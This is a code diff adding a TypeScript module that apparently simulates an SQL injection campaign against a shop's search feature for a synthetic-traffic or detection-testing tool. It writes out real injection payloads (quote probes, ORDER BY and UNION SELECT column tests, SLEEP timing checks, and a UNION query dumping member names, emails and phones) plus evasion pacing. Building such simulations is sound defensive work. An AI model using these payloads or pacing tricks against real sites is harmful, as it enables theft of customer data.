@@ -1,0 +1,130 @@
+import { DAY, HOUR, MINUTE, SECOND } from '../calendar.ts'
+import type { Random } from '../random.ts'
+import type { Evasion } from '../scenarios.ts'
+import { ask, type Visit } from '../traffic/visit.ts'
+import type { ActorTruth } from '../truth.ts'
+import { type Attack, type AttackStage, byDay } from './attack.ts'
+import { makeInfrastructure, planCampaign } from './infrastructure.ts'
+import { choose } from './targets.ts'
+
+interface Pace {
+  readonly probes: readonly [number, number]
+  /** Answers that hold rows of the table of members. */
+  readonly dumps: readonly [number, number]
+  /** Seconds between two requests, and of how many addresses one takes turns in the others' place. */
+  readonly gap: number
+  readonly spread: number
+}
+
+const PACES: Readonly<Record<Evasion, Pace>> = {
+  loud: { probes: [200, 900], dumps: [40, 200], gap: 0.6, spread: 0.2 },
+  distributed: { probes: [80, 200], dumps: [40, 120], gap: 8, spread: 10 },
+  slow: { probes: [15, 40], dumps: [12, 30], gap: 60, spread: 1 },
+}
+
+interface Request {
+  readonly at: number
+  readonly item: number
+  readonly words: string
+  readonly status: number
+  readonly bytes: number
+  /** Members whose rows the answer holds. */
+  readonly members: readonly number[]
+}
+
+/** The search puts its words into a query as they are: somebody tries quotes, and then takes the table of members. */
+export const injection = (stage: AttackStage): Attack => {
+  const { world, random } = stage
+  const actor = stage.truth.actor()
+  const { from, to } = planCampaign(world, random)
+  const requests = requestsOf(stage, from, to)
+  const infrastructure = makeInfrastructure(
+    world,
+    random,
+    requests.length * PACES[stage.evasion].spread,
+    (to - from) / DAY,
+  )
+  const days = byDay(stage, requests)
+  return {
+    confounder: null,
+    day: (day) => {
+      for (const request of days.get(day) ?? []) {
+        const { at, item } = request
+        send(stage, actor, request, {
+          time: at,
+          host: random.below(world.shape.hosts.length),
+          address: infrastructure.address(at, item),
+          agent: infrastructure.agent(at, item),
+          device: '',
+          account: '',
+          credential: null,
+          referrer: '',
+          actor: actor.number,
+        })
+      }
+    },
+  }
+}
+
+const send = (stage: AttackStage, actor: ActorTruth, request: Request, visit: Visit): void => {
+  const { world, random, journal } = stage
+  const { words, status, bytes, members } = request
+  const target = world.shape.routes.search(encodeURIComponent(words))
+  if (!ask(journal, random, visit, { target, status, bytes }) || status !== 200) return
+  /** No line names them. */
+  for (const member of members)
+    stage.truth.exposed(actor, Math.floor(visit.time), world.members.account(member), COLUMNS, -1)
+}
+
+const COLUMNS = ['Name', 'EmailAddress', 'TelephoneNumber']
+const USUAL = 36_000
+const ROW_BYTES = 130
+
+const requestsOf = (stage: AttackStage, from: number, to: number): readonly Request[] => {
+  const { world, random, evasion } = stage
+  const pace = PACES[evasion]
+  const probes = random.whole(...pace.probes)
+  const rows = random.whole(400, 2500)
+  const dumps = Math.min(random.whole(...pace.dumps), Math.ceil(world.members.count / rows))
+  const taken = choose(world.members.count, Math.min(world.members.count, dumps * rows), true, random)
+  const batch = evasion === 'distributed' ? random.whole(3, 6) : probes + dumps
+  const requests: Request[] = []
+  let at = from
+  for (let i = 0; i < probes; i++) {
+    requests.push({ at, item: Math.floor(i / batch), ...probe(random, i) })
+    at += random.exponential(pace.gap) * SECOND
+  }
+  at += random.between(2, 20) * MINUTE
+  for (let i = 0; i < dumps; i++) {
+    const members = taken.slice(i * rows, (i + 1) * rows)
+    const words = `${random.pick(GOODS)}' UNION ALL SELECT NULL,CONCAT(name,0x7e,email,0x7e,phone),NULL FROM members ORDER BY 1 LIMIT ${i * rows},${rows}-- -`
+    requests.push({
+      at,
+      item: Math.floor((probes + i) / batch),
+      words,
+      status: 200,
+      bytes: USUAL + rows * ROW_BYTES,
+      members,
+    })
+    at += random.exponential(pace.gap * 2) * SECOND
+    if (evasion === 'slow' && random.chance(0.2)) at += random.between(5, 30) * HOUR
+    if (at > to) break
+  }
+  return requests
+}
+
+const GOODS = ['tumbler', 'desk lamp', 'sneakers', 'tent']
+
+const probe = (random: Random, number: number): Omit<Request, 'at' | 'item'> => {
+  const word = random.pick(GOODS)
+  const columns = Array.from({ length: 1 + (number % 8) }, () => 'NULL').join(',')
+  const words = random.pick([
+    `${word}'`,
+    `${word}' AND ${number}=${number + (number % 2)}-- -`,
+    `${word}' ORDER BY ${1 + (number % 12)}-- -`,
+    `${word}' UNION ALL SELECT ${columns}-- -`,
+    `${word}') AND SLEEP(${number % 6})-- -`,
+  ])
+  const fails = random.chance(0.4)
+  return { words, status: fails ? 500 : 200, bytes: fails ? 900 : random.chance(0.5) ? 2400 : USUAL, members: [] }
+}
